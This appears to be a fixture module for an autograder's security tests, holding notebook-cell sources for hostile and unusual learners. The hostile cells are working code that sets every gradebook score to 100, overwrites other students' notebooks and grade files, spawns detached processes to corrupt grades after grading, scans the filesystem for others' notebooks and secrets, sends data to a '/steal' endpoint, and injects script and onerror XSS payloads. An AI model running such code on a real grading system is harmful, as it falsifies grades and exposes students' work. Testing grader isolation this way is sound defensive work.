"""The code of the learners of tests/test_attacks.py who go after others (files, grades, the network, the
feedback's readers), and of the honest learners with unusual habits, as notebook text.

Each constant is the source of a cell; ``$name`` fields are filled in from the run by ``attack_catalogue.fill``.
"""

# --- harm to others ------------------------------------------------------------------------------------

GRADEBOOK = '''import sqlite3
from pathlib import Path

_tried = {}
for _path in [Path("$out") / "gradebook.db", *(p / "gradebook.db" for p in Path.cwd().parents)]:
    try:
        from nbgrader.api import Gradebook
        with Gradebook(f"sqlite:///{_path}", "dropout-course") as gb:
            for student in gb.students:
                for submission in student.submissions:
                    for notebook in submission.notebooks:
                        for grade in notebook.grades:
                            grade.manual_score = 100
            gb.db.commit()
        with sqlite3.connect(_path) as db:
            db.execute("UPDATE grade SET manual_score = 100")
        _tried[str(_path)] = "written" if Path("$out").exists() else "only a file of my own sandbox"
    except Exception as exc:
        _tried[str(_path)] = type(exc).__name__
print("gradebook attempts:", _tried)
'''
REWRITE_OTHERS = '''from pathlib import Path

_tried = {}
for _path in [Path("$subs") / "victim" / "03_quiz.ipynb", Path("$out") / "grades.csv",
              Path("$out") / "submitted" / "victim" / "03_quiz" / "03_quiz.ipynb",
              Path("$out") / "autograded" / "victim" / "03_quiz" / "03_quiz.ipynb",
              Path("$repo") / "solutions" / "03_quiz" / "03_quiz.ipynb", Path(quiz.__file__),
              Path(quiz.__file__).parent / "exercises" / "quiz.py"]:
    try:
        _path.write_text("pwned")
        _tried[str(_path)] = "written"
    except OSError as exc:
        _tried[str(_path)] = type(exc).__name__
print("rewrite attempts:", _tried)
'''
DETACHED = '''import subprocess
import sys

_later = "sleep 45; echo pwned > $out/grades.csv; echo pwned > $subs/victim/03_quiz.ipynb"
_quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["setsid", "nohup", "sh", "-c", _later, "$marker"], start_new_session=True, **_quiet)
subprocess.Popen(["nohup", "sh", "-c", "sleep 600", "$marker"], **_quiet)
_double_fork = (
    "import os, sys, time\\n"
    "if os.fork(): sys.exit(0)\\n"
    "os.setsid()\\n"
    "if os.fork(): sys.exit(0)\\n"
    "time.sleep(45)\\n"
    "open('$out/grades.csv', 'w').write('pwned')\\n")
subprocess.Popen([sys.executable, "-c", _double_fork, "$marker"], **_quiet)
print("started three processes that should outlive grading")
'''
READ_OTHERS = '''import os
from pathlib import Path

import sys
import dropout_kit

# Not the system, nor the read-only Python, venv and package trees every kernel sees (libraries' own test files).
_skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix, os.path.dirname(dropout_kit.__file__)}
_mine = str(Path.cwd())
_notebooks, _secrets, _databases = [], [], []
for _dir, _subdirs, _files in os.walk("/"):
    _subdirs[:] = [d for d in _subdirs if os.path.join(_dir, d) not in _skip]
    for _name in _files:
        _path = os.path.join(_dir, _name)
        if _name.endswith(".ipynb") and not _path.startswith(_mine):
            _notebooks.append(_path)
        if _name in ("gradebook.db", "grades.csv"):
            _databases.append(_path)
        if _name.endswith((".ipynb", ".json", ".csv", ".db", ".log", ".html")) and not _path.startswith(_mine):
            try:
                if os.path.getsize(_path) < 2**22 and b"$secret" in open(_path, "rb").read():
                    _secrets.append(_path)
            except OSError:
                pass
_descriptors = sorted({os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")
                       if os.path.exists(f"/proc/self/fd/{fd}")})
print("other notebooks:", _notebooks)
print("gradebooks and grades:", _databases)
print("files holding the victim's secret:", _secrets)
print("open descriptors:", _descriptors)
'''
NETWORK = '''import socket
import urllib.request

_tried = {}
for _url in ["http://127.0.0.1:$port/steal?from=network", "http://$host_ip:$port/steal?from=network",
             "http://example.com/"]:
    try:
        urllib.request.urlopen(_url, timeout=3)
        _tried[_url] = "reached"
    except Exception as exc:
        _tried[_url] = type(exc).__name__
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"steal", ("$host_ip", $port))
    _tried["udp"] = "sent"
except OSError as exc:
    _tried["udp"] = type(exc).__name__
print("network attempts:", _tried)
'''
HTML_MARKDOWN = ("My notes <script>alert('markdown')</script> <img src=x onerror=alert('img')> "
                 "<b>bold</b>\n\n[a link](javascript:alert('link')) <svg onload=alert('svg')></svg>")
HTML_CELL = '''from IPython.display import publish_display_data
publish_display_data({"text/html": "<script>alert('html')</script>", "image/svg+xml": "<svg onload=alert('svg2')/>",
                      "image/png": "\\"><script>alert('png')</script>", "text/plain": "<script>alert('plain')</script>"})
print("<script>alert('stream')</script>")
raise ValueError("<img src=x onerror=alert('error')>")
'''
HTML_REPR = '''    def extra_repr(self):
        return f"p={self.p}, inplace={self.inplace} <script>alert('repr')</script>"
'''

# --- honest learners with unusual habits -------------------------------------------------------------

SHADOWED_BUILTINS = "sum = 0\nmax = 3\nlist = [1, 2]\nprint = print\n"
RESEED = "import numpy as np\ntorch.manual_seed(0)\nnp.random.seed(0)\n"
PLOT = 'import matplotlib.pyplot as plt\nplt.plot([0, 1, 2], [2, 0, 1])\nplt.title("a plot of my own")\nplt.show()\n'
BOLD_NOTES = "<b>My notes:</b> dropout is <i>inverted</i>, so eval mode needs no scaling."
COMPARE_02 = '''import torch.nn.functional as F
x = torch.ones(1000)
print("same as PyTorch at p=0:", torch.equal(dropout(x, 0.0), F.dropout(x, 0.0)))
print("means at p=0.5:", dropout(x, 0.5).mean().item(), F.dropout(x, 0.5).mean().item())
reference = nn.Dropout(0.5)
'''
SAFE_RATIO = '''# A helper of my own: num / den, and 0 where den is 0.
def _safe_ratio(num, den):
    ok = den > 0
    return torch.where(ok, num / torch.where(ok, den, torch.ones_like(den)), torch.zeros_like(num))
'''
UNUSUAL_PRF = '''def precision_recall_f1(cm):
    cm = cm.double()
    tp = cm.diagonal()
    precision = _safe_ratio(tp, cm.sum(dim=0))
    recall = _safe_ratio(tp, cm.sum(dim=1))
    return precision, recall, _safe_ratio(2 * precision * recall, precision + recall)
'''
COMPARE_07 = '''binary = metrics.binary_confusion(tp=85, fp=10, tn=90, fn=15)
print("same as the package:", all(torch.allclose(a, b.double())
                                   for a, b in zip(precision_recall_f1(binary), metrics.precision_recall_f1(binary))))
from sklearn.metrics import precision_recall_fscore_support
print("scikit-learn:", precision_recall_fscore_support([0, 1, 1, 0], [0, 1, 0, 0], zero_division=0)[0])
print("the package's choice:", tuning.pick_rate([{"p": 0.0, "n": 1, "val_acc_mean": 0.8, "val_acc_std": float("nan")}]))
'''
